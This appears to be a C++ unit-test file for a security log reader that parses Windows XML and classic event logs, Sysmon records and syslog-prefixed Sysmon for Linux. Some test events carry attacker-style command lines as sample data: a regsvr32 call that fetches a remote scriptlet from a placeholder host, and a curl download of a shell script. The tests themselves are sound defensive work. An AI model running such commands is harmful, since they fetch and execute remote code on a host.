// XmlWinEventLog reader: raw values (entities kept), layouts, damage and resync.
#include <gtest/gtest.h>

#include <iterator>
#include <string>

#include "io/readers.h"
#include "io_test_util.h"

namespace splinter::io::testing {
namespace {

const std::string kHead = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>";

std::string event_xml(const std::string& id, const std::string& cmd,
                      const std::string& time = "2024-05-14T09:15:02.4471234Z") {
  return kHead + "<System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f}'/><EventID>" + id +
         "</EventID><TimeCreated SystemTime='" + time +
         "'/><EventRecordID>7</EventRecordID><Correlation/><Execution ProcessID='3160' ThreadID='4412'/>"
         "<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS01</Computer>"
         "<Security UserID='S-1-5-18'/></System><EventData><Data Name='CommandLine'>" +
         cmd + "</Data><Data Name='Empty'/><Data Name='Blank'></Data></EventData></Event>";
}

std::vector<StoredEvent> read_text(const std::string& text, CollectSink& s, FileStats* out = nullptr) {
  TempDir d;
  auto stats = read_inputs({d.file("x.xml", text)}, s);
  if (out) *out = stats.at(0);
  return s.events;
}

TEST(IoXml, SystemAndEventDataFields) {
  CollectSink s;
  auto ev = read_text(event_xml("1", "a.exe &quot;b&quot; &amp; c &gt; d") + "\n", s);
  ASSERT_EQ(ev.size(), 1u);
  const StoredEvent& e = ev[0];
  EXPECT_EQ(e.at("EventID"), "1");
  EXPECT_EQ(e.at("EventCode"), "1");
  EXPECT_EQ(e.at("ProviderName"), "Microsoft-Windows-Sysmon");
  EXPECT_EQ(e.at("ProviderGuid"), "{5770385f}");
  EXPECT_EQ(e.at("SystemTime"), "2024-05-14T09:15:02.4471234Z");
  EXPECT_EQ(e.at("EventRecordID"), "7");
  EXPECT_EQ(e.at("ProcessID"), "3160");
  EXPECT_EQ(e.at("ThreadID"), "4412");
  EXPECT_EQ(e.at("UserID"), "S-1-5-18");
  EXPECT_EQ(e.at("Channel"), "Microsoft-Windows-Sysmon/Operational");
  EXPECT_EQ(e.at("Computer"), "WS01");
  EXPECT_EQ(e.get("Correlation"), nullptr);
  EXPECT_EQ(e.at("CommandLine"), "a.exe &quot;b&quot; &amp; c &gt; d");  // entities kept
  EXPECT_EQ(e.at("Empty"), "");
  EXPECT_EQ(e.at("Blank"), "");
  EXPECT_EQ(e.time_us, utc_us(2024, 5, 14, 9, 15, 2) + 447123);
  EXPECT_EQ(e.line, 1u);
  EXPECT_EQ(e.offset, 0u);
}

TEST(IoXml, QualifiersUnnamedDataUserDataCdataAndDoubleQuotes) {
  std::string x = kHead +
                  "<System><Provider Name=\"Service Control Manager\"/><EventID Qualifiers=\"16384\">7045"
                  "</EventID><TimeCreated SystemTime=\"2024-01-01 00:00:01\"/></System>"
                  "<EventData><Data>first</Data><Data>second</Data><Data Name=\"X\"><![CDATA[a<b]]></Data>"
                  "</EventData><UserData><LogFileCleared xmlns='x'><SubjectUserName>bob</SubjectUserName>"
                  "<SubjectDomainName>CORP</SubjectDomainName><Empty/></LogFileCleared></UserData></Event>";
  CollectSink s;
  auto ev = read_text(x, s);
  ASSERT_EQ(ev.size(), 1u);
  EXPECT_EQ(ev[0].at("EventID"), "7045");
  EXPECT_EQ(ev[0].at("ProviderName"), "Service Control Manager");
  EXPECT_EQ(ev[0].count("Data"), 2u);
  EXPECT_EQ(ev[0].at("Data"), "first");
  EXPECT_EQ(ev[0].at("X"), "a<b");
  EXPECT_EQ(ev[0].at("SubjectUserName"), "bob");
  EXPECT_EQ(ev[0].at("SubjectDomainName"), "CORP");
  EXPECT_EQ(ev[0].at("Empty"), "");
  EXPECT_EQ(ev[0].time_us, utc_us(2024, 1, 1, 0, 0, 1));
}

TEST(IoXml, MultiLineConcatenatedAndWrapped) {
  std::string pretty = kHead + "\n  <System>\n    <EventID>4688</EventID>\n  </System>\n"
                       "  <EventData>\n    <Data Name='CommandLine'>x y</Data>\n  </EventData>\n</Event>\n";
  std::string text = "<?xml version='1.0'?>\n<Events>\n" + event_xml("1", "one") + event_xml("2", "two") +
                     "\n" + pretty + "</Events>\n";
  CollectSink s;
  FileStats st;
  auto ev = read_text(text, s, &st);
  ASSERT_EQ(ev.size(), 3u) << (s.problems.empty() ? "" : s.problems[0].what);
  EXPECT_TRUE(s.problems.empty());
  EXPECT_EQ(ev[0].at("CommandLine"), "one");
  EXPECT_EQ(ev[1].at("CommandLine"), "two");
  EXPECT_EQ(ev[0].line, 3u);
  EXPECT_EQ(ev[1].line, 3u);
  EXPECT_EQ(ev[1].offset, text.find(event_xml("2", "two")));
  EXPECT_EQ(ev[2].at("EventID"), "4688");
  EXPECT_EQ(ev[2].at("CommandLine"), "x y");
  EXPECT_EQ(ev[2].line, 4u);
  EXPECT_EQ(st.read, 3u);
  EXPECT_EQ(st.parsed, 3u);
}

TEST(IoXml, TruncatedRecordReportedAndNextRead) {
  std::string good1 = event_xml("1", "first"), good2 = event_xml("1", "after");
  std::string cut = event_xml("1", "cut").substr(0, 150);
  std::string text = good1 + "\n" + cut + "\n" + good2 + "\n";
  CollectSink s;
  FileStats st;
  auto ev = read_text(text, s, &st);
  ASSERT_EQ(ev.size(), 2u);
  EXPECT_EQ(ev[1].at("CommandLine"), "after");
  EXPECT_EQ(ev[1].line, 3u);
  ASSERT_EQ(s.problems.size(), 1u);
  EXPECT_EQ(s.problems[0].line, 2u);
  EXPECT_EQ(s.problems[0].offset, good1.size() + 1);
  EXPECT_NE(s.problems[0].what.find("truncated"), std::string::npos);
  EXPECT_EQ(st.read, 3u);
  EXPECT_EQ(st.rejected, 1u);
}

// Found by a new user: text after a cut record (a junk line) went with the record
// without a word. The error now says how many lines it skipped, up to which line.
TEST(IoXml, TruncatedRecordSaysWhatItSkipped) {
  std::string good1 = event_xml("1", "first"), good2 = event_xml("1", "after");
  std::string cut = event_xml("1", "cut").substr(0, 150);
  CollectSink s;
  FileStats st;
  auto ev = read_text(good1 + "\n" + cut + "\ngarbage line here\n" + good2 + "\n", s, &st);
  ASSERT_EQ(ev.size(), 2u);
  EXPECT_EQ(ev[1].line, 4u);
  ASSERT_EQ(s.problems.size(), 1u);
  EXPECT_EQ(s.problems[0].line, 2u);
  EXPECT_NE(s.problems[0].what.find("2 lines (169 bytes) skipped up to the next <Event at line 4"), std::string::npos)
      << s.problems[0].what;
}

// Found by a new user: a zeroed file (only NUL bytes) passed as "empty input" with exit 0,
// while the same bytes named .evtx were an error. Events without a readable time are
// now said per file, at the first of them.
TEST(IoXml, NulOnlyFileIsAnErrorAndUntimedEventsAreLocated) {
  {
    CollectSink s;
    FileStats st;
    read_text(std::string(100000, '\0'), s, &st);
    ASSERT_EQ(s.problems.size(), 1u);
    EXPECT_FALSE(s.problems[0].warning);
    EXPECT_NE(s.problems[0].what.find("only NUL bytes"), std::string::npos);
    EXPECT_TRUE(st.failed);
  }
  {
    CollectSink s;
    read_text("\n\n", s);
    ASSERT_EQ(s.problems.size(), 1u);
    EXPECT_TRUE(s.problems[0].warning);  // an empty file stays a warning
  }
  CollectSink s;
  s.keep_time_warnings = true;
  auto ev = read_text(event_xml("1", "a") + "\n" + event_xml("1", "b", "notatime") + "\n" +
                          event_xml("1", "c", "bad") + "\n",
                      s);
  ASSERT_EQ(ev.size(), 3u);
  ASSERT_EQ(s.problems.size(), 1u);
  EXPECT_TRUE(s.problems[0].warning);
  EXPECT_EQ(s.problems[0].line, 2u);
  EXPECT_NE(s.problems[0].what.find("2 event(s) with no readable time"), std::string::npos) << s.problems[0].what;
}

TEST(IoXml, TruncatedAtEndGarbageAndMissingEventId) {
  std::string no_id = kHead + "<System><Computer>A</Computer></System></Event>";
  std::string text = event_xml("1", "ok") + "\nthis is not xml\nnor this\n" + no_id + "\n" +
                     event_xml("2", "ok2") + "\n<Event xmlns='x'><System><EventID>3</EventID>";
  CollectSink s;
  FileStats st;
  auto ev = read_text(text, s, &st);
  ASSERT_EQ(ev.size(), 2u);
  EXPECT_EQ(ev[1].at("EventID"), "2");
  ASSERT_EQ(s.problems.size(), 3u);
  EXPECT_EQ(s.problems[0].line, 2u);
  EXPECT_EQ(s.problems[0].what, "unexpected text between events");
  EXPECT_EQ(s.problems[1].line, 4u);
  EXPECT_EQ(s.problems[1].what, "record has no EventID");
  EXPECT_EQ(s.problems[2].line, 6u);
  EXPECT_EQ(st.read, 5u);
  EXPECT_EQ(st.rejected, 3u);
}

TEST(IoXml, MismatchedTagsRejected) {
  XmlEventParser p;
  Event e;
  std::string err;
  EXPECT_FALSE(p.parse(kHead + "<System><EventID>1</EventIDX></System></Event>", e, err));
  EXPECT_FALSE(p.parse(kHead + "<System><EventID a=b>1</EventID></System></Event>", e, err));
  EXPECT_TRUE(p.parse(kHead + "<System><EventID>1</EventID></System></Event>", e, err)) << err;
}

TEST(IoXml, RecordTooLarge) {
  std::string big = kHead + "<System><EventID>1</EventID></System><EventData><Data Name='X'>" +
                    std::string(kMaxRecordBytes + 10, 'a') + "</Data></EventData></Event>\n";
  CollectSink s;
  FileStats st;
  auto ev = read_text(big + event_xml("5", "small") + "\n", s, &st);
  ASSERT_EQ(ev.size(), 1u);
  EXPECT_EQ(ev[0].at("EventID"), "5");
  ASSERT_GE(s.problems.size(), 1u);
  EXPECT_EQ(s.problems[0].what, kRecordTooLarge);
}

TEST(IoXml, ClassicWinEventLogRecordsInterleaved) {
  std::string text = event_xml("1", "x") +
                     "\n01/14/2021 11:41:39 PM\nLogName=Microsoft-Windows-PowerShell/Operational\n"
                     "SourceName=Microsoft-Windows-PowerShell\nEventCode=4104\nComputerName=dc1\n"
                     "Message=Creating Scriptblock text (1 of 1):\nline two <b>\n\n" +
                     event_xml("2", "y") + "\n";
  CollectSink s;
  auto ev = read_text(text, s);
  ASSERT_EQ(ev.size(), 3u);
  EXPECT_TRUE(s.problems.empty());
  EXPECT_EQ(ev[1].at("EventID"), "4104");
  EXPECT_EQ(ev[1].at("Channel"), "Microsoft-Windows-PowerShell/Operational");
  EXPECT_EQ(ev[1].at("Computer"), "dc1");
  EXPECT_EQ(ev[1].at("Message"), "Creating Scriptblock text (1 of 1):\nline two <b>");
  EXPECT_EQ(ev[1].time_us, utc_us(2021, 1, 14, 23, 41, 39));
  EXPECT_EQ(ev[1].line, 2u);
  EXPECT_EQ(ev[2].at("EventID"), "2");
  // Each event records its own rendering, even within one file (Splunk's sourcetype).
  EXPECT_EQ(ev[0].format, EventFormat::Xml);
  EXPECT_EQ(ev[1].format, EventFormat::Classic);
  EXPECT_EQ(ev[2].format, EventFormat::Xml);
}

// A file of classic records only is sniffed as such (it used to be "unrecognised format").
TEST(IoXml, ClassicWinEventLogFileAlone) {
  std::string text =
      "03/05/2024 2:15:07 PM\r\nLogName=Security\r\nEventCode=4688\r\nComputerName=WKS-07\r\n"
      "RecordNumber=884211\r\nMessage=A new process has been created.\r\n\r\nCreator Subject:\r\n"
      "03/05/2024 02:16:00 AM\r\nLogName=System\r\nEventCode=7045\r\nComputerName=WKS-08\r\n";
  CollectSink s;
  FileStats st;
  auto ev = read_text(text, s, &st);
  EXPECT_TRUE(s.problems.empty());
  EXPECT_EQ(st.format, Format::WinEventLog);
  ASSERT_EQ(ev.size(), 2u);
  EXPECT_EQ(ev[0].at("EventID"), "4688");
  EXPECT_EQ(ev[0].at("Channel"), "Security");
  EXPECT_EQ(ev[0].at("EventRecordID"), "884211");
  EXPECT_EQ(ev[0].time_us, utc_us(2024, 3, 5, 14, 15, 7));
  EXPECT_EQ(ev[0].format, EventFormat::Classic);
  EXPECT_EQ(ev[1].at("Channel"), "System");
  EXPECT_EQ(ev[1].at("Computer"), "WKS-08");
  EXPECT_EQ(ev[1].time_us, utc_us(2024, 3, 5, 2, 16, 0));
  EXPECT_EQ(ev[1].line, 9u);
  EXPECT_EQ(ev[1].format, EventFormat::Classic);
}

// A classic record's header time has no zone: read as UTC, and the file says so once,
// at the first such record.
TEST(IoXml, ClassicHeaderTimeWithoutZoneIsWarnedOnce) {
  std::string text =
      "03/05/2024 2:15:07 PM\nLogName=Security\nEventCode=4688\nComputerName=WKS-07\n"
      "03/05/2024 02:16:00 AM\nLogName=System\nEventCode=7045\nComputerName=WKS-08\n";
  CollectSink s;
  s.keep_time_warnings = true;
  FileStats st;
  auto ev = read_text(text, s, &st);
  ASSERT_EQ(ev.size(), 2u);
  ASSERT_EQ(s.problems.size(), 1u);
  EXPECT_TRUE(s.problems[0].warning);
  EXPECT_EQ(s.problems[0].line, 1u);
  EXPECT_EQ(s.problems[0].offset, 0u);
  EXPECT_NE(s.problems[0].what.find("2 classic WinEventLog event(s) took _time from the record's header time, which "
                                    "has no time zone; read as UTC"),
            std::string::npos)
      << s.problems[0].what;
  EXPECT_EQ(st.rejected, 0u);
}

// A date line alone is not a classic record: such text stays unrecognised.
TEST(IoXml, DateLinesWithoutKeyValuesAreNotClassic) {
  CollectSink s;
  FileStats st;
  auto ev = read_text("03/05/2024 2:15:07 PM some text\n03/05/2024 2:16:07 PM more\n", s, &st);
  EXPECT_TRUE(ev.empty());
  EXPECT_EQ(st.format, Format::Unknown);
  ASSERT_EQ(s.problems.size(), 1u);
  EXPECT_EQ(s.problems[0].what, "unrecognised format");
}

TEST(IoXml, BomAndCrLf) {
  std::string text = "\xEF\xBB\xBF" + event_xml("1", "a") + "\r\n" + event_xml("2", "b") + "\r\n";
  CollectSink s;
  auto ev = read_text(text, s);
  ASSERT_EQ(ev.size(), 2u);
  EXPECT_TRUE(s.problems.empty());
  EXPECT_EQ(ev[1].line, 2u);
}

// Reads text through read_xml_stream with a given window chunk, counting the bytes
// searched for record ends.
struct StreamRun {
  CollectSink sink;
  FileStats st;
  uint64_t scanned = 0;
};
void read_stream(const std::string& text, StreamRun& r, size_t chunk = size_t(1) << 20) {
  ByteSource src;
  src.open_memory(text.data(), text.size());
  StreamBuffer sb(src, chunk);
  read_xml_stream(sb, "x.xml", r.sink, r.st, &r.scanned);
}

// Many "<Event" starts that never close (a user's file, 50 MB of them, never finished):
// each record's search for "</Event>" used to run to the end of the window, so the
// work was records x window. Now it stops at the next record start: every record is
// rejected with its line and offset, and the bytes searched stay about the input size.
TEST(IoXml, ManyUnterminatedRecordsAreRejectedInLinearWork) {
  const std::string rec = "<Event xmlns=\n";
  const size_t n = 150000;  // 2.1 MB: several windows, records cut by refills
  std::string text;
  for (size_t i = 0; i < n; ++i) text += rec;
  StreamRun r;
  read_stream(text, r);
  EXPECT_EQ(r.st.read, n);
  EXPECT_EQ(r.st.parsed, 0u);
  EXPECT_EQ(r.st.rejected, n);
  ASSERT_EQ(r.sink.problems.size(), n);
  for (size_t i = 0; i < n; ++i) {
    const InputProblem& p = r.sink.problems[i];
    ASSERT_EQ(p.file, "x.xml");
    ASSERT_EQ(p.line, i + 1) << i;
    ASSERT_EQ(p.offset, i * rec.size()) << i;
    ASSERT_NE(p.what.find("truncated record"), std::string::npos) << p.what;
  }
  EXPECT_NE(r.sink.problems.back().what.find("end of input"), std::string::npos);
  EXPECT_LE(r.scanned, text.size());  // before: about n x 1 MiB
}

// The same on one line, concatenated, with good records among them and after them.
TEST(IoXml, UnterminatedRecordsOnOneLineThenGoodOnes) {
  const std::string cut = "<Event xmlns='x'><System><EventID>9</EventID>";
  const size_t n = 40000;
  std::string text;
  std::vector<uint64_t> cut_at, good_at;
  for (size_t i = 0; i < n; ++i) {
    if (i % 1000 == 999) {
      good_at.push_back(text.size());
      text += event_xml(std::to_string(i), "good");
    } else {
      cut_at.push_back(text.size());
      text += cut;
    }
  }
  good_at.push_back(text.size());
  text += event_xml("last", "end") + "\n";
  StreamRun r;
  read_stream(text, r);
  EXPECT_EQ(r.st.read, n + 1);
  EXPECT_EQ(r.st.parsed, good_at.size());
  EXPECT_EQ(r.st.rejected, cut_at.size());
  ASSERT_EQ(r.sink.events.size(), good_at.size());
  for (size_t i = 0; i < good_at.size(); ++i) {
    EXPECT_EQ(r.sink.events[i].offset, good_at[i]);
    EXPECT_EQ(r.sink.events[i].line, 1u);
  }
  EXPECT_EQ(r.sink.events.back().at("EventID"), "last");
  ASSERT_EQ(r.sink.problems.size(), cut_at.size());
  for (size_t i = 0; i < cut_at.size(); ++i) {
    ASSERT_EQ(r.sink.problems[i].offset, cut_at[i]);
    ASSERT_EQ(r.sink.problems[i].line, 1u);
  }
  EXPECT_LE(r.scanned, text.size());
}

// Record ends and starts cut by the end of the window at every position: whatever the
// read sizes, the same events and problems come out, with the same lines and offsets.
TEST(IoXml, SameRecordsWhateverTheReadSize) {
  std::string pretty = kHead + "\n  <System>\n    <EventID>4688</EventID>\n  </System>\n"
                       "  <EventData>\n    <Data Name='CommandLine'>x y</Data>\n  </EventData>\n</Event>\n";
  std::string text = "<?xml version='1.0'?>\n<Events>\n" + event_xml("1", "one") + event_xml("2", "two") +
                     "\n" + pretty + "<Event xmlns='x'><System><EventID>3</EventID></System>\n" +
                     "<Event xmlns='y'>" + event_xml("4", "after two cut") + "<EventX>" +
                     event_xml("5", "<![CDATA[a </Event b <EventX]]>") +
                     "\nnot xml\n01/14/2021 11:41:39 PM\nEventCode=4104\nMessage=m\n" +
                     "<Event/>\n" + event_xml("6", "six") +
                     "</Events>\n<Event xmlns='z'><System><EventID>7</EventID></Syst";
  auto summary = [](const StreamRun& r) {
    std::string out = std::to_string(r.st.read) + "/" + std::to_string(r.st.parsed) + "/" +
                      std::to_string(r.st.rejected) + "\n";
    for (const auto& e : r.sink.events)
      out += "E " + e.at("EventID") + " " + std::to_string(e.offset) + " " + std::to_string(e.line) + "\n";
    for (const auto& p : r.sink.problems)
      out += "P " + p.what + " " + std::to_string(p.offset) + " " + std::to_string(p.line) + "\n";
    return out;
  };
  StreamRun whole;
  read_stream(text, whole);
  EXPECT_EQ(whole.st.parsed, 7u) << summary(whole);
  EXPECT_EQ(whole.st.rejected, 6u) << summary(whole);
  EXPECT_EQ(whole.st.read, whole.st.parsed + whole.st.rejected);
  for (size_t chunk = 1; chunk <= 24; ++chunk) {
    StreamRun r;
    read_stream(text, r, chunk);
    EXPECT_EQ(summary(r), summary(whole)) << "chunk " << chunk;
  }
}

// Regression cases: values exactly as the rendered XML has them.
TEST(IoXmlCases, C01C05C08EntitiesPreserved) {
  std::string dir = shared_dir() + "/cases/";
  if (slurp(dir + "C01.xml").empty()) GTEST_SKIP() << "shared cases absent";
  CollectSink s;
  auto stats = read_inputs({dir + "C01.xml", dir + "C05.xml", dir + "C08.xml"}, s);
  ASSERT_EQ(stats.size(), 3u);
  EXPECT_EQ(stats[0].parsed, 1u);
  EXPECT_EQ(stats[1].parsed, 6u);
  EXPECT_EQ(stats[2].parsed, 3u);
  EXPECT_TRUE(s.problems.empty());
  ASSERT_EQ(s.events.size(), 10u);
  EXPECT_EQ(s.events[0].at("CommandLine"),
            "regsvr32.exe /s /n /u /i:http://update.example.test/a.sct scrobj.dll");
  EXPECT_EQ(s.events[0].at("Image"), "C:\\Windows\\System32\\regsvr32.exe");
  EXPECT_EQ(s.events[0].time_us, utc_us(2024, 5, 14, 9, 15, 2) + 447123);
  EXPECT_EQ(s.events[1].at("CommandLine"),
            "&quot;C:\\WINDOWS\\SysWOW64\\REGSVR32.EXE&quot; /S /I:HTTP://CDN.EXAMPLE.TEST/A.SCT SCROBJ.DLL");
  size_t with_entities = 0;
  for (const auto& e : s.events)
    for (const auto& f : e.fields) with_entities += f.value.find("&quot;") != std::string::npos;
  EXPECT_GE(with_entities, 3u);
  for (const auto& e : s.events) {
    EXPECT_EQ(e.at("EventID"), "1");
    EXPECT_NE(e.time_us, kNoTime);
  }
  EXPECT_EQ(s.events[0].at("Product"), "Microsoft\u00ae Windows\u00ae Operating System");  // UTF-8 kept
  bool amp = false;
  for (const auto& e : s.events)
    amp |= e.at("ParentCommandLine") ==
           "cmd.exe /c &quot;cd /d C:\\Program Files\\Notepad++ &amp;&amp; regsvr32 /s /i NppShell_06.dll&quot;";
  EXPECT_TRUE(amp);
}

TEST(IoXmlCases, C03UnicodeKept) {
  std::string p = shared_dir() + "/cases/C03.xml";
  if (slurp(p).empty()) GTEST_SKIP();
  CollectSink s;
  auto st = read_inputs({p}, s);
  ASSERT_EQ(s.events.size(), 3u);
  EXPECT_NE(s.events[0].at("CommandLine").find("\xE2\x80"), std::string::npos);  // dash bytes
}

// Sysmon for Linux as syslog writes it: the XML event after a syslog prefix (BSD or ISO
// timestamp, tag with or without [pid], RFC 5424 with <PRI>). The file is sniffed as
// XML, the prefix skipped (not rejected) and _time is the event's own TimeCreated.
TEST(IoXml, SyslogPrefixedSysmonForLinux) {
  const std::string prefixes[] = {
      "May 16 09:20:11 ubuntu01 sysmon: ",
      "May  6 09:20:11 ubuntu01 sysmon[1234]: ",
      "2024-05-16T11:20:11.529000+02:00 ubuntu01 sysmon[1234]: ",
      "<14>1 2024-05-16T09:20:11.529Z ubuntu01 sysmon 1234 - [meta seq=\"1\"] ",
  };
  std::string text;
  std::vector<size_t> event_at;  // offset of each "<Event"
  for (size_t i = 0; i < std::size(prefixes); ++i) {
    event_at.push_back(text.size() + prefixes[i].size());
    text += prefixes[i] + event_xml(std::to_string(i + 1), "curl -s http://x.example.test/a.sh",
                                    "2024-05-16T09:20:11.529000Z") + "\n";
  }
  CollectSink bare;
  read_text(event_xml("1", "curl -s http://x.example.test/a.sh", "2024-05-16T09:20:11.529000Z"), bare);
  ASSERT_EQ(bare.events.size(), 1u);
  for (size_t chunk : {size_t(1) << 20, size_t(64), size_t(7)}) {
    SCOPED_TRACE(chunk);
    StreamRun r;
    read_stream(text, r, chunk);
    EXPECT_TRUE(r.sink.problems.empty()) << r.sink.problems[0].what;
    ASSERT_EQ(r.sink.events.size(), std::size(prefixes));
    for (size_t i = 0; i < std::size(prefixes); ++i) {
      const StoredEvent& e = r.sink.events[i];
      EXPECT_EQ(e.at("EventID"), std::to_string(i + 1));
      EXPECT_EQ(e.time_us, bare.events[0].time_us);
      EXPECT_EQ(e.fields.size(), bare.events[0].fields.size());
      EXPECT_EQ(e.at("CommandLine"), "curl -s http://x.example.test/a.sh");
      EXPECT_EQ(e.line, i + 1);
      EXPECT_EQ(e.offset, event_at[i]);
    }
  }
  CollectSink s;
  FileStats st;
  read_text(text, s, &st);
  EXPECT_EQ(st.format, Format::XmlWinEventLog);
  EXPECT_EQ(st.parsed, std::size(prefixes));
  EXPECT_TRUE(s.problems.empty());
}

// What is not a syslog prefix stays text between events (rejected, as before).
TEST(IoXml, NotASyslogPrefix) {
  EXPECT_EQ(syslog_event_start("May 16 09:20:11 h sysmon: <Event>"), 26u);
  EXPECT_EQ(syslog_event_start("<14>1 2024-05-16T09:20:11Z h sysmon 1 - - <Event>"), 42u);
  EXPECT_EQ(syslog_event_start("lowercase text <Event>"), std::string_view::npos);
  EXPECT_EQ(syslog_event_start("May 16 h sysmon:<Event>"), std::string_view::npos);  // glued to the tag
  EXPECT_EQ(syslog_event_start("May 16 h <b> x <Event>"), std::string_view::npos);
  EXPECT_EQ(syslog_event_start("May 16 h\n<Event>"), std::string_view::npos);
  EXPECT_EQ(syslog_event_start("May 16 h <EventData>"), std::string_view::npos);
  EXPECT_EQ(syslog_event_start("<14 May <Event>"), std::string_view::npos);
  EXPECT_EQ(syslog_event_start(std::string(600, 'A') + " <Event>"), std::string_view::npos);
  CollectSink s;
  FileStats st;
  auto ev = read_text(event_xml("1", "a") + "\nnot syslog: " + event_xml("2", "b") + "\n", s, &st);
  ASSERT_EQ(ev.size(), 2u);
  ASSERT_EQ(s.problems.size(), 1u);
  EXPECT_EQ(s.problems[0].what, "unexpected text between events");
}

}  // namespace
}  // namespace splinter::io::testing
